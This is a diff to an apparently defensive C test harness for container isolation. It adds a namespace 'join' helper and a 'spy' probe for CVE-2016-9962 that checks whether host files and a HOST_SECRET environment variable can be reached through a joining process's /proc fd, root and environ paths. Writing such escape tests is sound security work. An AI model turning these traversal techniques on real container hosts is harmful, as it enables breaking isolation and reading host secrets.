@@ -12,6 +12,7 @@
 #include <string.h>
 #include <sys/ioctl.h>
 #include <sys/mount.h>
+#include <sys/prctl.h>
 #include <sys/stat.h>
 #include <sys/syscall.h>
 #include <sys/sysmacros.h>
@@ -199,6 +200,79 @@ static int attack_clone_userns(char **argv)
 	return verdict(pid > 0);
 }
 
+/* Not an attack: `join PID [HOW]` enters a container with the host's root open, as a tool of an
+ * afternoon does, and stays there; HOW: as a process that cannot be traced. */
+static int join(char **argv)
+{
+	int root = open("/", O_PATH | O_DIRECTORY), pid = atoi(argv[0]);
+	int target = (int)syscall(SYS_pidfd_open, pid, 0);
+
+	if (root < 0 || setns(target, CLONE_NEWPID | CLONE_NEWNS | (argv[1] ? CLONE_NEWUSER : 0)))
+		return verdict(0);
+	if (!fork()) {
+		prctl(PR_SET_PDEATHSIG, SIGKILL);
+		prctl(PR_SET_NAME, "joiner");
+		if (argv[1] && !strcmp(argv[1], "undumpable"))
+			prctl(PR_SET_DUMPABLE, 0);
+		puts("joined");
+		pause();
+	}
+	return wait(NULL) < 0;
+}
+
+/* CVE-2016-9962: what of the host is in reach through a process that is about to join?  `spy NAME
+ * MARKER`: the name of that process, and a file of the host below its root. */
+static int spy_on(const char *proc, const char *marker)
+{
+	char path[512], environment[4096] = "";
+	int fd;
+
+	for (int n = 0; n < 32; n++) {
+		snprintf(path, sizeof(path), "%s/fd/%d/%s", proc, n, marker);
+		if (!access(path, F_OK))
+			return 1;
+		snprintf(path, sizeof(path), "%s/fd/%d/../1/root/%s", proc, n, marker);
+		if (!access(path, F_OK))
+			return 1;
+	}
+	snprintf(path, sizeof(path), "%s/root/%s", proc, marker);
+	if (!access(path, F_OK))
+		return 1;
+	snprintf(path, sizeof(path), "%s/environ", proc);
+	fd = open(path, O_RDONLY);
+	if (fd < 0 || read(fd, environment, sizeof(environment) - 1) < 0)
+		return 0;
+	for (char *p = environment; p < environment + sizeof(environment) - 1; p++)
+		if (!strncmp(p, "HOST_SECRET", 11))
+			return 1;
+	errno = ENOENT;
+	return 0;
+}
+
+static int attack_spy(char **argv)
+{
+	char path[64], name[32];
+	ssize_t n;
+
+	for (int pid = 1; pid < 1000; pid++) {
+		int fd;
+
+		snprintf(path, sizeof(path), "/proc/%d/comm", pid);
+		fd = open(path, O_RDONLY);
+		if (fd < 0)
+			continue;
+		n = read(fd, name, sizeof(name) - 1);
+		close(fd);
+		name[n < 1 ? 0 : n - 1] = '\0';
+		if (strcmp(name, argv[0]) != 0)
+			continue;
+		snprintf(path, sizeof(path), "/proc/%d", pid);
+		return verdict(spy_on(path, argv[1]));
+	}
+	errno = ESRCH;
+	return verdict(0);
+}
+
 /* Exchanges a directory and a link until it is killed: `exchange A B`. */
 static int exchange(char **argv)
 {
@@ -256,6 +330,8 @@ static const struct {
 	{ "release-agent", attack_release_agent },
 	{ "userns", attack_userns },
 	{ "clone-userns", attack_clone_userns },
+	{ "join", join },
+	{ "spy", attack_spy },
 	{ "exchange", exchange },
 	{ "pty", pty },
 };
